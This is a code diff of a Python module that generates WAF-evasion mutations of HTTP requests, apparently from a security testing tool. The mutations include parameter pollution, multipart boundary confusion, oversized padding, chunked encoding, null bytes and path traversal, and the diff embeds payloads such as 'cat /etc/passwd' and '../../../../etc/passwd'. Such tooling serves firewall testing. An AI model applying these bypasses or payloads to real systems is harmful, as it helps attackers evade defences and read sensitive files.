                 part = []
                 part.append(poc[:point1])
                 part.append(poc[point1:point2])
@@ -1156,10 +963,9 @@ def mutant_methods_perameter_pollution_case2(headers, url, method, data, files):
                     plt_data += pera + "=" + part[i] + "\n"
             if ":" in data:
 
-                pera = data.split(":")[0]
-                poc = data.split(":")[1]
-                point1 = random.randint(1, len(poc) - 2)
-                point2 = random.randint(point1 + 1, len(poc) - 1)
+                pera, poc = analyze(headers, url, method, data, analysis).split_body(":")[:2]
+                point1 = rng.randint(1, len(poc) - 2)
+                point2 = rng.randint(point1 + 1, len(poc) - 1)
                 part = []
                 part.append(poc[:point1])
                 part.append(poc[point1:point2])
@@ -1182,9 +988,9 @@ def mutant_methods_perameter_pollution_case2(headers, url, method, data, files):
             'files': files
         })
     else:
-        parsed_url = urllib.parse.urlparse(url)
-        base_url = f"{parsed_url.scheme}://{parsed_url.netloc}{parsed_url.path}"
-        query_params = urllib.parse.parse_qs(parsed_url.query, keep_blank_values=True)
+        analysis = analyze(headers, url, method, data, analysis)
+        base_url = analysis.base_url
+        query_params = analysis.query_params
         # 为每个参数创建重复的测试用例
         for param, values in query_params.items():
             original_value = values[0]
@@ -1219,28 +1025,23 @@ def mutant_methods_perameter_pollution_case2(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_multipart_boundary(headers, url, method, data, files):
+def mutant_methods_multipart_boundary(headers, url, method, data, files, analysis=None):
     """ 对 boundary 进行变异进而绕过"""
     logger.info(TAG + "==>mutant_methods_multipart_boundary")
     logger.debug(TAG + "==>headers: " + str(headers))
     # 只有 multipart/form-data 才需要可以使用这个方法
 
-    content_type = headers.get('Content-Type')
-    if not content_type or not re.match('multipart/form-data', content_type):
+    analysis = analyze(headers, url, method, data, analysis)
+    content_type = analysis.content_type
+    if not analysis.is_multipart:
         if not 'filename' in str(data):
             return []
-    if not isinstance(data, str):
-        data_str = data.decode()
-    else:
-        data_str = data
-    pattern = re.compile(r'Content-Disposition: form-data;.*filename="([^"]+)"')
-    filenames = pattern.findall(data_str)
-
-    # 从Content-Type中解析boundary的正则表达式
-    pattern = re.compile(r'boundary=(.*)')
-    match = pattern.search(content_type)
-    if match:
-        boundary = match.group(1)
+    data_str = analysis.text
+    filenames = analysis.filenames
+
+    # 从Content-Type中解析boundary
+    boundary = analysis.boundary
+    if boundary is not None:
         logger.debug(TAG + f"Found boundary: {boundary}")
     else:
         # 无boundary
@@ -1293,17 +1094,21 @@ def mutant_methods_multipart_boundary(headers, url, method, data, files):
 # 超大数据包绕过
 # 这是众所周知、而又难以解决的问题。如果HTTP请求POST BODY太大，检测所有的内容，WAF集群消耗太大的CPU、内存资源。因此许多WAF只检测前面的
 # 几K字节、1M、或2M。对于攻击者而然，只需要在POST BODY前面添加许多无用数据，把攻击payload放在最后即可绕过WAF检测。
-def mutant_methods_add_padding(headers, url, method, data, files):
+def mutant_methods_add_padding(headers, url, method, data, files, analysis=None):
     """ 绕过WAF的超大数据包检测"""
     logger.info(TAG + "==>mutant_methods_add_padding")
     logger.debug(TAG + "==>headers: " + str(headers))
     mutant_payloads = []
-    # 对于上传请求，在headers中添加无用数据
+    # 填充数据取自共享的填充缓冲区(大小由 --padding-size 指定)，以分段请求体发送，不复制
+    padding_data = padding_buffer.segment()
+    # 对于上传请求，在文件内容前添加无用数据
     if files:
-        padding_data = 'x' * 1024 * 1
         for name, file_info in files.items():
-            file_content = file_info.get('content', '')
-            file_info['content'] = padding_data + file_content
+            if isinstance(file_info, dict):
+                file_info['content'] = SegmentedBody([padding_data, file_info.get('content', '')])
+            elif isinstance(file_info, (list, tuple)):
+                # prowler_parse_raw_payload 生成的文件为 (filename, content[, content_type])
+                files[name] = (file_info[0], SegmentedBody([padding_data, file_info[1]])) + tuple(file_info[2:])
         mutant_payloads.append({
             'headers': headers,
             'url': url,
@@ -1312,6 +1117,22 @@ def mutant_methods_add_padding(headers, url, method, data, files):
             'files': files
         })
         return mutant_payloads
+    if isinstance(data, dict):
+        from urllib.parse import urlencode
+        data = urlencode(data)
+    if data:
+        data = SegmentedBody([data, padding_data])
+    else:
+        data = SegmentedBody([padding_data])
+
+    mutant_payloads.append({
+        'headers': headers,
+        'url': url,
+        'method': method,
+        'data': data,
+        'files': files
+    })
+    return mutant_payloads
     padding_data = 'x' * 1024 * 1  # 5 kB 的无用数据
     # data must not be a string
     if isinstance(data, bytes) and isinstance(padding_data, str):
@@ -1335,21 +1156,16 @@ def mutant_methods_add_padding(headers, url, method, data, files):
 
 
 # 删除data中的Content-Type
-def mutant_methods_delete_content_type_of_data(headers, url, method, data, files):
+def mutant_methods_delete_content_type_of_data(headers, url, method, data, files, analysis=None):
     """ 删除data中的Content-Type:xxx; """
     logger.info(TAG + "==>mutant_methods_delete_content_type_of_data")
     logger.debug(TAG + "==>headers: " + str(headers))
     mutant_payloads = []
     # 只有 multipart/form-data 才需要可以使用这个方法
-    content_type = headers.get('Content-Type')
-    if content_type and re.match('multipart/form-data', content_type):
-        pattern = r'Content-Type:[^;]+;\s*'
+    analysis = analyze(headers, url, method, data, analysis)
+    if analysis.is_multipart:
         # 使用re.sub()函数来删除所有匹配的部分
-        if not isinstance(data, str):
-            data_str = data.decode()
-        else:
-            data_str = data
-        cleaned_data = re.sub(pattern, '', data_str)
+        cleaned_data = PART_CONTENT_TYPE.sub('', analysis.text)
         mutant_payloads.append({
             'headers': headers,
             'url': url,
@@ -1360,7 +1176,7 @@ def mutant_methods_delete_content_type_of_data(headers, url, method, data, files
 
 
 # 请求头变异,改变Content-Type的大小写
-def mutant_methods_modify_content_type_case(headers, url, method, data, files):
+def mutant_methods_modify_content_type_case(headers, url, method, data, files, analysis=None):
     """ 变异Content-Type的大小写"""
     logger.info(TAG + "==>mutant_methods_modify_content_type_case")
     logger.debug(TAG + "==>headers: " + str(headers))
@@ -1378,7 +1194,7 @@ def mutant_methods_modify_content_type_case(headers, url, method, data, files):
 
 
 # 请求头变异，改变Content-Type这个属性名本身的大小写
-def mutant_methods_modify_case_of_content_type(headers, url, method, data, files):
+def mutant_methods_modify_case_of_content_type(headers, url, method, data, files, analysis=None):
     """ 变异Content-Type这个属性名本身的大小写"""
     logger.info(TAG + "==>mutant_methods_modify_case_of_content_type")
     logger.debug(TAG + "==>headers: " + str(headers))
@@ -1396,7 +1212,7 @@ def mutant_methods_modify_case_of_content_type(headers, url, method, data, files
     return mutant_payloads
 
 
-def mutant_methods_add_Content_Type_for_get_request(headers, url, method, data, files):
+def mutant_methods_add_Content_Type_for_get_request(headers, url, method, data, files, analysis=None):
     """ 给GET请求添加Content-Type"""
     logger.info(TAG + "==>mutant_methods_add_Content_Type_for_get_request")
     logger.debug(TAG + "==>headers: " + str(headers))
@@ -1414,7 +1230,7 @@ def mutant_methods_add_Content_Type_for_get_request(headers, url, method, data,
 
 
 # 为形如/rce_get?cmd=cat%20/etc/passwd的GET请求添加无害命令，如cmd=ls;cat%20/etc/passwd
-def mutant_methods_add_harmless_command_for_get_request(headers, url, method, data, files):
+def mutant_methods_add_harmless_command_for_get_request(headers, url, method, data, files, analysis=None):
     """ 为GET请求添加无害命令"""
     logger.info(TAG + "==>mutant_methods_add_harmless_command_for_get_request")
     logger.debug(TAG + "==>headers: " + str(headers))
@@ -1440,7 +1256,7 @@ def mutant_methods_add_harmless_command_for_get_request(headers, url, method, da
 需要在请求头添加 “Transfer-Encoding=chunked” 才支持分块传输'''
 
 
-def mutant_methods_chunked_transfer_encoding(headers, url, method, data, files):
+def mutant_methods_chunked_transfer_encoding(headers, url, method, data, files, analysis=None):
     """ 使用分块传输编码，并将请求体拆分为更细的块 """
     logger.info(TAG + "==>mutant_methods_chunked_transfer_encoding")
     mutant_payloads = []
@@ -1451,31 +1267,13 @@ def mutant_methods_chunked_transfer_encoding(headers, url, method, data, files):
         mutated_headers['Transfer-Encoding'] = 'chunked'
         if 'Content-Length' in mutated_headers:
             del mutated_headers['Content-Length']
-        # 确保使用HTTP/1.1版本
-        mutated_headers['Protocol-Version'] = 'HTTP/1.1'
 
-        # 构造分块传输编码的请求体
-        def chunked_body(data):
-            body = ''
-            if data:
-                if isinstance(data, dict):
-                    from urllib.parse import urlencode
-                    data = urlencode(data)
-                data = data if isinstance(data, str) else data.decode('utf-8')
-                # 将数据拆分为更细的块，例如每个块1个字符
-                chunk_size = 1  # 每个块的大小，可以调整为更小的值
-                for i in range(0, len(data), chunk_size):
-                    chunk = data[i:i + chunk_size]
-                    chunk_length = format(len(chunk), 'x')
-                    # 可选择在长度值后添加注释
-                    chunk_length_with_comment = chunk_length + ";"
-                    body += chunk_length_with_comment + "\r\n"
-                    body += chunk + "\r\n"
-            # 添加结束块
-            body += "0\r\n\r\n"
-            return body
-
-        mutated_data = chunked_body(data)
+        if isinstance(data, dict):
+            from urllib.parse import urlencode
+            data = urlencode(data)
+        # 分块帧在发送时逐块写出，块大小与块间延迟由 --chunk-size / --chunk-delay 指定；
+        # 块长度后添加空的块扩展(';')
+        mutated_data = chunked_encoder.encode(data, extension=';')
 
         mutant_payloads.append({
             'headers': mutated_headers,
@@ -1488,16 +1286,16 @@ def mutant_methods_chunked_transfer_encoding(headers, url, method, data, files):
 
 
 # 把content-type的值替换为multipart/form-data当作一个载荷
-def mutant_methods_multipart_form_data(headers, url, method, data, files):
+def mutant_methods_multipart_form_data(headers, url, method, data, files, analysis=None):
     """ 使用multipart/form-data编码发送普通参数，并可选添加charset参数 """
     logger.info(TAG + "==>mutant_methods_multipart_form_data")
     mutant_payloads = []
 
     if method in ['POST', 'PUT', 'PATCH']:
-        mutated_headers = copy.deepcopy(headers)
+        mutated_headers = cow_copy(headers)
 
         # 生成随机的boundary
-        boundary = '----WebKitFormBoundary' + uuid.uuid4().hex[:16]
+        boundary = '----WebKitFormBoundary' + uuid.UUID(int=rng.getrandbits(128), version=4).hex[:16]
         # 可选地在Content-Type后添加charset参数
         charset_options = ['', ', charset=ibm500', ', charset=ibm037']
 
@@ -1541,7 +1339,7 @@ def mutant_methods_multipart_form_data(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_sql_comment_obfuscation(headers, url, method, data, files):
+def mutant_methods_sql_comment_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==> mutant_methods_sql_comment_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
 
@@ -1559,7 +1357,7 @@ def mutant_methods_sql_comment_obfuscation(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_convert_get_to_post(headers, url, method, data, files):
+def mutant_methods_convert_get_to_post(headers, url, method, data, files, analysis=None):
     # mutant_payloads = []
     # return mutant_payloads
     """ 将GET请求转换为POST请求 """
@@ -1570,7 +1368,7 @@ def mutant_methods_convert_get_to_post(headers, url, method, data, files):
         # 将GET请求转换为POST请求
         method = 'POST'
         # 提取GET请求的参数
-        query = urllib.parse.urlparse(url).query
+        query = analyze(headers, url, method, data, analysis).parsed_url.query
         url = url.split('?')[0]
         url = url.replace('get', 'post')
         data = {'cmd': 'cat /etc/passwd'}
@@ -1589,22 +1387,22 @@ def mutant_methods_convert_get_to_post(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_mutate_headers(headers, url, method, data, files):
+def mutant_methods_mutate_headers(headers, url, method, data, files, analysis=None):
     mutant_payloads = []
     new_headers = headers.copy()
     # 随机删除一个请求头
-    if headers and random.random() < 0.2:
-        key_to_remove = random.choice(list(headers.keys()))
+    if headers and rng.random() < 0.2:
+        key_to_remove = rng.choice(list(headers.keys()))
         del new_headers[key_to_remove]
     # 随机添加一个请求头
-    if random.random() < 0.2:
-        new_key = 'X-' + ''.join(random.choices('abcdefghijklmnopqrstuvwxyz', k=5))
-        new_value = ''.join(random.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=10))
+    if rng.random() < 0.2:
+        new_key = 'X-' + ''.join(rng.choices('abcdefghijklmnopqrstuvwxyz', k=5))
+        new_value = ''.join(rng.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=10))
         new_headers[new_key] = new_value
     # 变异请求头的值
     for key in new_headers:
-        if random.random() < 0.3:
-            new_headers[key] = ''.join(random.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=len(new_headers[key])))
+        if rng.random() < 0.3:
+            new_headers[key] = ''.join(rng.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=len(new_headers[key])))
 
     mutant_payloads.append({
         'headers': new_headers,
@@ -1651,14 +1449,14 @@ def get_weighted_mutant_methods(mutant_methods_config):
 
     return mutant_methods
 
-def mutant_methods_null_byte_injection(headers, url, method, data, files):
+def mutant_methods_null_byte_injection(headers, url, method, data, files, analysis=None):
     """
     在 URL 和参数中插入 %00（null byte）以尝试绕过解析逻辑
     """
     logger.info(TAG + "==>mutant_methods_null_byte_injection")
     mutant_payloads = []
 
-    parsed_url = urllib.parse.urlparse(url)
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
     null_byte_query = parsed_url.query.replace("=", "%00=")
     mutated_url = urllib.parse.urlunparse(parsed_url._replace(query=null_byte_query))
 
@@ -1675,14 +1473,14 @@ def mutant_methods_null_byte_injection(headers, url, method, data, files):
     })
     return mutant_payloads
 
-def mutant_methods_path_traversal(headers, url, method, data, files):
+def mutant_methods_path_traversal(headers, url, method, data, files, analysis=None):
     """
     对 URL 的 path 注入路径穿越 payload
     """
     logger.info(TAG + "==>mutant_methods_path_traversal")
     mutant_payloads = []
 
-    parsed_url = urllib.parse.urlparse(url)
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
     traversal_payloads = ['../../../../etc/passwd', '..%2f..%2fetc%2fpasswd']
     
     for payload in traversal_payloads:
@@ -1697,7 +1495,7 @@ def mutant_methods_path_traversal(headers, url, method, data, files):
         })
     return mutant_payloads
 
-def mutant_methods_random_boundary_confusion(headers, url, method, data, files):
+def mutant_methods_random_boundary_confusion(headers, url, method, data, files, analysis=None):
     """
     为 multipart/form-data 设置异常的 boundary 值来尝试绕过解析逻辑
     """
@@ -1705,12 +1503,11 @@ def mutant_methods_random_boundary_confusion(headers, url, method, data, files):
     mutant_payloads = []
 
     if 'multipart/form-data' in headers.get('Content-Type', ''):
-        mutated_headers = copy.deepcopy(headers)
-        random_boundary = 'AaB03x' + ''.join(random.choices("abcdef0123456789", k=8))
+        mutated_headers = cow_copy(headers)
+        random_boundary = 'AaB03x' + ''.join(rng.choices("abcdef0123456789", k=8))
         mutated_headers['Content-Type'] = f'multipart/form-data; boundary="{random_boundary}"'
 
-        if isinstance(data, bytes):
-            data = data.decode()
+        data = analyze(headers, url, method, data, analysis).text
 
         if isinstance(data, str):
             mutated_data = data.replace('--' + random_boundary, '--' + random_boundary.upper())
@@ -1855,11 +1652,37 @@ deep_mutant_methods_config = {
     "mutant_methods_add_random_harmless_param": (mutant_methods_add_random_harmless_param, False),
 }
 
+# 变异方法的适用条件(只列出有前提条件的方法)，不适用的请求不再复制与分发，见 prowler_applicability
+BODY_METHODS = ('POST', 'PUT', 'PATCH')
+mutant_methods_applicability = {
+    "mutant_methods_fake_content_type": Applicability(requires=('has_content_type',)),
+    "mutant_methods_modify_content_type_case": Applicability(requires=('has_content_type',)),
+    "mutant_methods_modify_case_of_content_type": Applicability(requires=('has_content_type',)),
+    "mutant_methods_multipart_boundary": Applicability(requires=('has_boundary',)),
+    "mutant_methods_random_boundary_confusion": Applicability(content_types=(CONTENT_TYPE_MULTIPART,)),
+    "mutant_methods_delete_content_type_of_data": Applicability(content_types=(CONTENT_TYPE_MULTIPART,)),
+    "mutant_upload_methods_double_equals": Applicability(requires=('has_files', 'has_body')),
+    "mutant_methods_add_Content_Type_for_get_request": Applicability(methods=('GET',)),
+    "mutant_methods_add_harmless_command_for_get_request": Applicability(methods=('GET',)),
+    "mutant_methods_sql_comment_obfuscation": Applicability(methods=('GET',)),
+    "mutant_methods_chunked_transfer_encoding": Applicability(methods=BODY_METHODS),
+    "mutant_methods_multipart_form_data": Applicability(methods=BODY_METHODS),
+    "mutant_methods_perameter_pollution_case1": Applicability(requires_any=('has_body', 'has_query')),
+    "mutant_methods_perameter_pollution_case2": Applicability(requires_any=('has_body', 'has_query')),
+}
+applicability_index.register(mutant_methods_applicability)
+
+# 启用的变异方法(按配置顺序)，get_weighted_mutant_methods 按历史成功次数重新排序
+mutant_methods = [
+    method for method, enabled in mutant_methods_config.values()
+    if enabled
+]
+
 
 # 生成两两组合的变异方法
-def generate_combinations(mutant_methods):
-    """ 生成两两组合的变异方法 """
-    return list(itertools.combinations(mutant_methods, 2))
+def generate_combinations(mutant_methods, max_combinations=None):
+    """ 生成两两组合的变异方法，max_combinations 限制组合数 """
+    return list(itertools.islice(itertools.combinations(mutant_methods, 2), max_combinations))
 
 
 if __name__ == '__main__':
@@ -1899,10 +1722,14 @@ if __name__ == '__main__':
     # 测试两两组合的变异方法
     combinations = generate_combinations(mutant_methods)
     mutant_payloads = []
+    # 同一个 method1 开头的组合共用 method1 的变异结果
+    first_step_payloads = {}
     for method1, method2 in combinations:
-        mutant_payloads_generated_by_method_1 = method1(headers, url, method, data, files)
+        if method1 not in first_step_payloads:
+            first_step_payloads[method1] = method1(cow_copy(headers), url, method, data, files)
+        mutant_payloads_generated_by_method_1 = first_step_payloads[method1]
         for mutant_payload in mutant_payloads_generated_by_method_1:
-            sub_mutant_payloads_generated_by_method_2 = method2(mutant_payload['headers'], mutant_payload['url'],
+            sub_mutant_payloads_generated_by_method_2 = method2(cow_copy(mutant_payload['headers']), mutant_payload['url'],
                                                                 mutant_payload['method'], mutant_payload['data'],
                                                                 mutant_payload['files'])
             mutant_payloads.extend(sub_mutant_payloads_generated_by_method_2)